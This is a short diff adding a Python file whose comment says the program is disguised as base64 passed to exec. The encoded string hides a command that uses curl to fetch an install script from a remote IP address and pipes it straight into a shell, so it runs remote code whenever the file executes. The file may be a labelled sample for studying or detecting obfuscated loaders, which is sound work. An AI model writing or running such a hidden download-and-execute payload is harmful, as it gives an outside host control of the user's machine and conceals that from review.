@@ -1,0 +1,4 @@
+# Disguised: the program is base64 given to exec.
+import base64
+
+exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzIwMy4wLjExMy45L2luc3RhbGwuc2ggfCBzaCcp"))
